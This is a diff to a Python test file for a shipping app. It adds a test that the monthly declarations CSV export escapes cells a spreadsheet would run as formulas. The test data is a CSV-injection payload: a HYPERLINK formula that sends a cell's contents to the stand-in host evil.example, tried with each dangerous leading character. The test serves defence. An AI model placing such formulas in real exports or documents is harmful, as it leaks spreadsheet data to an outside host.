@@ -7,7 +7,10 @@ from __future__ import annotations
 import csv
 import io
 
+import pytest
+
 from app.leads.db import transaction
+from app.shipping import declarations
 from tests.helpers import lead_work_done
 from tests.shipping.steps import bought_label, deliver, tracking_event
 
@@ -52,3 +55,32 @@ def test_a_month_that_is_not_one_is_refused_clearly(mailin_app):
         args=["shipping", "declarations", "--month", "November"]
     )
     assert result.exit_code == 2 and "'November' does not match the format '%Y-%m'" in result.output
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_every_cell_a_spreadsheet_would_run_is_written_as_text(mailin_app, easypost, start):
+    parcel = bought_label(mailin_app)
+    deliver(mailin_app.test_client(), tracking_event(parcel["tracking_code"], "in_transit"))
+    lead_work_done(mailin_app)
+    text = f'{start}HYPERLINK("https://evil.example/?"&A1,"7Z41 K9Q2")'
+    columns = ("leg", "policy", "insured_value", "carrier", "service", "tracking_code",
+               "bought_at", "delivered_at", "state", "exception_status")  # fmt: skip
+    with mailin_app.app_context(), transaction() as db:
+        db.execute("PRAGMA ignore_check_constraints = ON")  # every column, its checks or not
+        db.execute(f"UPDATE shipments SET {', '.join(f'{c} = :text' for c in columns)}",
+                   {"text": text})  # fmt: skip
+        db.execute("UPDATE leads SET reference = ?", (text,))
+        db.execute(
+            "INSERT INTO shipment_claims (shipment_id, kind, state, insurer_reference, "
+            "opened_by, opened_at, amount, settled_by, settled_at, delivered_at) "
+            "VALUES (:id, :text, :text, :text, 'staff:1', :text, :text, 'staff:2', :text, :text)",
+            {"id": parcel["id"], "text": text},
+        )
+    month = parcel_month(mailin_app, parcel["id"])
+    with mailin_app.app_context():
+        written = io.StringIO()
+        assert declarations.write_csv(written, month) == 1
+    [header, row] = list(csv.reader(io.StringIO(written.getvalue())))
+    cells = dict(zip(header, row, strict=True))
+    assert cells.pop("cover_from").startswith(month)  # the first scan's time picks the month
+    assert cells == dict.fromkeys(cells, "'" + text) | {"claim": f"'{text}: {text}"}
